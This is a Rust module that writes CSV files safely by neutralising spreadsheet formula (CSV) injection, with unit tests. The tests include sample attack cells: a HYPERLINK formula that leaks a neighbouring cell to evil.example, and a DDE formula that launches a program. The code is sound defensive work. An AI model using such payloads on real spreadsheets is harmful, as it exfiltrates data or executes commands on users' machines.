//! Tables for spreadsheet programs: the one writer of CSV (RFC 4180).
//!
//! What stands in a cell is others' text. A spreadsheet program takes a cell that begins in certain ways for a formula,
//! and a formula can send what stands beside it elsewhere or start a program (OWASP: "CSV Injection"). Such a cell gets
//! an apostrophe before it, which these programs read as "this is text". Every cell stands in quotes, so that no
//! separator and no line end in it begins another one.

use csv::{QuoteStyle, Terminator, WriterBuilder};
use plain_text::shown;

/// What the file's name ends with.
pub(crate) const END: &str = ".csv";

/// Without it, Excel takes the file for the system's old code page (Microsoft support: "Opening CSV UTF-8 files
/// correctly in Excel").
const BYTE_ORDER_MARK: &str = "\u{feff}";

/// OWASP's list, and the wide forms that a spreadsheet program for Chinese or Japanese takes for the same.
const BEGIN_A_FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A table, its first row the heads of the columns. `separator`: what a spreadsheet program of the reader's language
/// expects.
pub(crate) fn csv<const N: usize>(
    separator: u8,
    head: [String; N],
    rows: impl IntoIterator<Item = [String; N]>,
) -> Result<String, csv::Error> {
    let mut writer = WriterBuilder::new()
        .delimiter(separator)
        .quote_style(QuoteStyle::Always)
        .terminator(Terminator::CRLF)
        .from_writer(BYTE_ORDER_MARK.as_bytes().to_vec());
    for row in std::iter::once(head).chain(rows) {
        writer.write_record(row.map(|cell| harmless(&cell)))?;
    }
    let written = writer.into_inner().map_err(|error| csv::Error::from(error.into_error()))?;
    Ok(String::from_utf8_lossy(&written).into_owned())
}

/// The cell as text that is no formula, hides nothing and shows its letters in their order.
fn harmless(cell: &str) -> String {
    let begins = |text: &str| text.trim_start_matches(' ').starts_with(BEGIN_A_FORMULA);
    let seen = shown(cell);
    if begins(cell) || begins(&seen) { format!("'{seen}") } else { seen }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "in a test a failed unwrap is a failed test")]
    use super::*;

    fn one_cell(cell: &str) -> String {
        let table = csv(b';', ["head".to_owned()], [[cell.to_owned()]]).unwrap();
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(table.as_bytes());
        let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!((rows.len(), rows[0].len()), (1, 1), "one cell stays one: {cell:?}");
        rows[0][0].to_owned()
    }

    #[test]
    fn what_begins_like_a_formula_is_text() {
        for formula in [
            "=1+1",
            "+31 6 12345678",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1+1",
            "＝1＋1",
            "＠x",
            "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Jan\")",
            "=cmd|' /C calc'!A0",
        ] {
            let cell = one_cell(formula);
            assert!(cell.starts_with('\''), "{formula:?} became {cell:?}");
            assert!(cell.contains(formula.trim()), "{formula:?} became {cell:?}");
        }
    }

    #[test]
    fn everything_else_is_as_it_was() {
        for text in
            ["Jan de Vries", "jan@fabrikam.nl", "O'Neil", "a;b,c", "say \"yes\"", "1+1=2", "Łukasz", "", "'x"]
        {
            assert_eq!(one_cell(text), text);
        }
        // A line end in a name begins no row, and nothing is hidden in one.
        assert_eq!(one_cell("Jan\nde Vries"), "Jan↵de Vries");
        assert_eq!(one_cell("Jan\u{202e}seirV"), "Jan\u{fffd}seirV");
    }

    #[test]
    fn a_spreadsheet_program_finds_the_letters_and_the_columns() {
        let head = ["Naam".to_owned(), "Zoë".to_owned()];
        let table = csv(b';', head, [["a".to_owned(), "b;c".to_owned()]]).unwrap();
        assert_eq!(table, "\u{feff}\"Naam\";\"Zoë\"\r\n\"a\";\"b;c\"\r\n");
    }

    #[test]
    fn whatever_begins_a_cell_whatever_else_begins_it_too() {
        let begins: Vec<String> = BEGIN_A_FORMULA.iter().map(char::to_string).collect();
        for before in ["", " ", "\u{200b}", "\u{feff}", "\u{202e}", "\u{1}", "\"", ";", ",", "\r\n"] {
            for begin in &begins {
                let cell = one_cell(&format!("{before}{begin}1+1"));
                let text = cell.trim_start_matches([' ', '"', ';', ',', '\u{fffd}', '↵']);
                assert!(cell.starts_with('\'') || text.len() < cell.len(), "{before:?}{begin:?}: {cell:?}");
                assert!(!cell.trim_start().starts_with(BEGIN_A_FORMULA), "{before:?}{begin:?}: {cell:?}");
            }
        }
    }
}
